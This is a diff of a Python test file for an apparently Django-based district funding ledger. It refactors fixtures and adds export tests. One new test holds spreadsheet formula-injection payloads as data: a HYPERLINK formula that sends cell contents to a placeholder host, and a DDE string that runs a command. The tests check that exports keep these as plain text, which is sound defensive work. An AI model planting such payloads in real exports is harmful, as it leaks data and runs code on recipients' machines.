@@ -15,10 +15,9 @@ from jianfu.core.money import format_wan
 from jianfu.funds import selectors, services
 from jianfu.funds.models import Posting
 from jianfu.funds.selectors import funding_report
-from jianfu.funds.tests.conftest import YEAR
-from jianfu.org.models import Region, Unit
+from jianfu.funds.tests.conftest import YEAR, admission_row, page, person, spend, transfer
+from jianfu.org.models import Unit
 from jianfu.org.roles import Role
-from jianfu.org.services import account_create
 
 pytestmark = pytest.mark.django_db
 
@@ -27,55 +26,6 @@ CHENGXI = "511002002000"
 # 184 days of 2026 and 181 of 2027, pro-rated to the fen.
 ZHONGGULOU_2026, JIANDAOJIE_2026 = 504_110, 403_288
 ZHONGGULOU_2027, JIANDAOJIE_2027 = 495_890, 396_712
-
-
-def community(code):
-    return Region.objects.select_related("parent").get(code=code)
-
-
-def transfer(personas, budget, admission, allocations, year=YEAR):
-    return services.ledger_transfer(
-        actor=personas.dept_clerk,
-        budget=budget,
-        admission=admission,
-        allocations=allocations,
-        memo="高龄津贴协助经费",
-        year=year,
-    )
-
-
-def spend(personas, admission, code, amount, voucher, actor=None):
-    return services.ledger_spend(
-        actor=actor or personas.street_officer,
-        community=community(code),
-        admission=admission,
-        amount_fen=amount,
-        memo="入户核对交通补贴",
-        year=YEAR,
-        voucher=voucher,
-    )
-
-
-def admission_row(personas, *, scope, department=None, title="城西社区协助事项") -> Admission:
-    """An admission written straight into the register for the whole of 2026."""
-    sequence = Admission.objects.filter(year=YEAR).count() + 100
-    admission = Admission.objects.create(
-        number=f"市中准〔{YEAR}〕{sequence}号",
-        district_id="511002000000",
-        year=YEAR,
-        sequence=sequence,
-        department=department or personas.dept_clerk.unit,
-        title=title,
-        object_kind="task",
-        target_level="community",
-        valid_from=dt.date(YEAR, 1, 1),
-        valid_until=dt.date(YEAR, 12, 31),
-    )
-    AdmissionScope.objects.bulk_create(
-        AdmissionScope(admission=admission, region_id=code, funding_fen=fen)
-        for code, fen in scope.items()
-    )
-    return admission
 
 
 @pytest.fixture
@@ -91,8 +41,8 @@ def funded(personas, budget, admission, voucher):
     transfer(personas, budget, admission, [(ZHONGGULOU, 300_000), (JIANDAOJIE, 200_000)])
     mistaken = transfer(personas, budget, admission, [(ZHONGGULOU, 100_000)])
     services.ledger_reverse(actor=personas.dept_clerk, original=mistaken, reason="重复拨付")
-    spend(personas, admission, ZHONGGULOU, 120_000, voucher)
-    wrong = spend(personas, admission, ZHONGGULOU, 30_000, voucher)
+    spend(personas, admission, 120_000, voucher)
+    wrong = spend(personas, admission, 30_000, voucher)
     services.ledger_reverse(actor=personas.street_officer, original=wrong, reason="金额有误")
     transfer(personas, budget, admission, [(ZHONGGULOU, 50_000)], year=2027)
     xilin = admission_row(personas, scope={XILIN: 500_000})
@@ -228,15 +178,7 @@ def test_report_refuses_an_unknown_grouping(personas):
 
 
 def other_department_clerk():
-    return account_create(
-        actor=None,
-        username="renshe_clerk",
-        display_name="人社局经办人",
-        unit=Unit.objects.get(name="市中区人社局"),
-        roles=[Role.DEPT_CLERK],
-        password="Persona-Pass-2026",
-        granted_by_command=True,
-    )
+    return person("renshe_clerk", "市中区人社局", Role.DEPT_CLERK)
 
 
 def test_a_street_sees_only_its_own_communities(personas, funded):
@@ -271,15 +213,7 @@ def test_a_department_sees_only_its_own_admissions(personas, funded):
 
 
 def test_nobody_outside_the_district_sees_its_money(personas, funded):
-    yunlong_finance = account_create(
-        actor=None,
-        username="yunlong_finance",
-        display_name="云龙区财政局",
-        unit=Unit.objects.get(name="云龙区财政局"),
-        roles=[Role.FINANCE_OFFICER],
-        password="Persona-Pass-2026",
-        granted_by_command=True,
-    )
+    yunlong_finance = person("yunlong_finance", "云龙区财政局", Role.FINANCE_OFFICER)
     assert funding_report(user=yunlong_finance, year=YEAR, by="community") == []
     assert funding_report(user=personas.system_admin, year=YEAR, by="community") == []
     assert funding_report(user=personas.evaluator, year=YEAR, by="community") == []
@@ -302,11 +236,6 @@ def test_the_report_reads_in_a_constant_number_of_queries(
 
 
 # Pages ------------------------------------------------------------------------------------------
-
-
-def page(response) -> str:
-    assert response.status_code == 200, response.status_code
-    return response.content.decode()
 
 
 def test_report_page_shows_the_summary_in_wan_and_marks_money_owed(personas, login, funded):
@@ -438,6 +367,8 @@ def workbook(response):
     assert response.status_code == 200, response.content[:200]
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     assert "attachment" in response["Content-Disposition"]
+    # The whole ledger of a district: kept out of shared caches.
+    assert response["Cache-Control"] == "private, no-store"
     return load_workbook(io.BytesIO(response.content))
 
 
@@ -514,15 +445,81 @@ def test_ledger_export_of_one_year_and_of_another_district(personas, login, fund
         .iter_rows(min_row=3, values_only=True)
     )
     assert len(rows) == 2 and {row[3] for row in rows} == {2027}
-    yunlong_auditor = account_create(
-        actor=None,
-        username="yunlong_auditor",
-        display_name="云龙区审计局",
-        unit=Unit.objects.get(name="云龙区审计局"),
-        roles=[Role.AUDITOR],
-        password="Persona-Pass-2026",
-        granted_by_command=True,
-    )
+    yunlong_auditor = person("yunlong_auditor", "云龙区审计局", Role.AUDITOR)
     book = workbook(login(yunlong_auditor).get(reverse("funds_ledger_export"), {"year": "all"}))
     assert book.worksheets[0].max_row <= 2
     assert book.worksheets[1].max_row <= 2
+
+
+def test_exports_write_text_that_looks_like_a_formula_as_text(personas, login, budget):
+    """Memos, titles, fund sources and file names are people's words: a spreadsheet must show
+    them, never run them (CSV/formula injection)."""
+    hyperlink = '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")'
+    dde = "=cmd|' /C calc'!A0"
+    evil = admission_row(personas, scope={XILIN: 100_000}, title="=1+2")
+    line = services.budget_line(Unit.objects.get(name="市中区民政局"), "+区级专项")
+    services.ledger_appropriate(
+        actor=personas.finance_officer, budget=line, amount_fen=100_000, memo="-2+3", year=YEAR
+    )
+    transfer(personas, line, evil, [(XILIN, 50_000)], memo=hyperlink)
+    paper = services.voucher_store(
+        actor=personas.street_officer2, name="@SUM(A1).pdf", content=b"x"
+    )
+    spend(personas, evil, 10_000, paper, code=XILIN, actor=personas.street_officer2, memo=dde)
+    client = login(personas.finance_officer)
+    ledger = workbook(client.get(reverse("funds_ledger_export"), {"year": YEAR}))
+    report = workbook(client.get(reverse("funds_report_export"), {"year": YEAR, "by": "admission"}))
+    cells = [
+        cell
+        for sheet in (*ledger.worksheets, report.active)
+        for row in sheet.iter_rows(min_row=3)
+        for cell in row
+    ]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
+    for text in (hyperlink, dde, "=1+2", "-2+3", "@SUM(A1).pdf"):
+        assert texts[text].data_type == "s"
+        # Kept as text even when someone edits the cell in Excel or WPS.
+        assert texts[text].quotePrefix
+    assert "市中区民政局 · +区级专项" in texts
+    assert texts["+区级专项"].quotePrefix
+
+
+def test_transferred_is_one_rule_on_every_page_in_the_api_and_in_the_tripwire(
+    personas, login, funded
+):
+    """Net of reversals, leaving out spending and its reversal: the report, the commitments,
+    the transfer form, a community's page, a task's page and the tripwire agree."""
+    admission, _xilin = funded
+    expected = {ZHONGGULOU: (300_000, 120_000), JIANDAOJIE: (200_000, 0)}
+    report = {
+        row.key: (row.transferred, row.spent)
+        for row in funding_report(
+            user=personas.finance_officer, year=YEAR, by="community", admission_id=admission.pk
+        )
+    }
+    funding = {
+        f.region_id: (f.transferred, f.spent)
+        for f in selectors.funding_of(admission=admission, year=YEAR)
+    }
+    community = {}
+    for code in expected:
+        money = selectors.money_for_community(admission_id=admission.pk, region_id=code, year=YEAR)
+        listed = next(
+            row
+            for row in selectors.community_money(region_id=code, year=YEAR)
+            if row.admission == admission
+        )
+        assert (listed.transferred, listed.spent) == (money.transferred, money.spent)
+        community[code] = (money.transferred, money.spent)
+    tripwire = selectors.transferred_by_community([admission.pk], YEAR)
+    assert report == funding == community == expected
+    assert {code: tripwire[(admission.pk, code)] for code in expected} == {
+        code: transferred for code, (transferred, _spent) in expected.items()
+    }
+    api = login(personas.finance_officer).get(
+        "/api/v1/funding/commitments", {"admission": admission.pk, "year": YEAR}
+    )
+    assert {
+        row["region"]: (row["transferred_fen"], row["spent_fen"]) for row in api.json()["items"]
+    } == expected
